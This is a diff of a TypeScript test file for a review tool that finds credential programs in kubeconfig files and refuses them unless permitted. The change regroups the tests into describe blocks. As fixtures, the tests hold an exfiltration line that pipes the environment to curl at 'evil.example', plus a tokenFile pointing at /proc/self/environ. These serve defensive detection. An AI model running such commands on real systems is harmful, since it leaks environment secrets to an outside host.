@@ -21,14 +21,16 @@ const exec = {
 };
 const line = "A=b sh -c env | curl -d @- evil.example";
 
-test.each<[string, unknown, string[]]>([
-  ["a credential program, with its arguments and variables", exec, [line]],
-  ["an auth-provider", { "auth-provider": { name: "gcp" } }, ["auth-provider gcp"]],
-  ["a file with a token", { tokenFile: "/proc/self/environ" }, ["tokenFile /proc/self/environ"]],
-  ["a token", { token: "x" }, []],
-])("%s of a kubeconfig is found", (_what, user, lines) => {
-  expect(credentialPrograms(kubeconfig(user))).toEqual(lines);
-  expect(credentialPrograms("{no yaml")).toEqual([]);
+describe("the credential programs of a kubeconfig", () => {
+  test.each<[string, unknown, string[]]>([
+    ["a credential program, with its arguments and variables", exec, [line]],
+    ["an auth-provider", { "auth-provider": { name: "gcp" } }, ["auth-provider gcp"]],
+    ["a file with a token", { tokenFile: "/proc/self/environ" }, ["tokenFile /proc/self/environ"]],
+    ["a token", { token: "x" }, []],
+  ])("with %s", (_what, user, lines) => {
+    expect(credentialPrograms(kubeconfig(user))).toEqual(lines);
+    expect(credentialPrograms("{no yaml")).toEqual([]);
+  });
 });
 
 /** The findings on east. @param allowed what the base revision allows */
@@ -58,13 +60,15 @@ describe("a review refuses a kubeconfig that runs a program", () => {
   });
 });
 
-test("what is allowed is read from the file of a revision, and nothing else is", () => {
-  expect(readCredentialPrograms(join(folder, "missing"))).toEqual(new Map());
-  writeFileSync(join(folder, reviewConfigFile), JSON.stringify({ credentialPrograms: { east: ["aws"], west: 1 } }));
-  expect(readCredentialPrograms(folder)).toEqual(
-    new Map([
-      ["east", ["aws"]],
-      ["west", []],
-    ]),
-  );
+describe("the permission for a credential program", () => {
+  test("comes only from the file of a revision", () => {
+    expect(readCredentialPrograms(join(folder, "missing"))).toEqual(new Map());
+    writeFileSync(join(folder, reviewConfigFile), JSON.stringify({ credentialPrograms: { east: ["aws"], west: 1 } }));
+    expect(readCredentialPrograms(folder)).toEqual(
+      new Map([
+        ["east", ["aws"]],
+        ["west", []],
+      ]),
+    );
+  });
 });
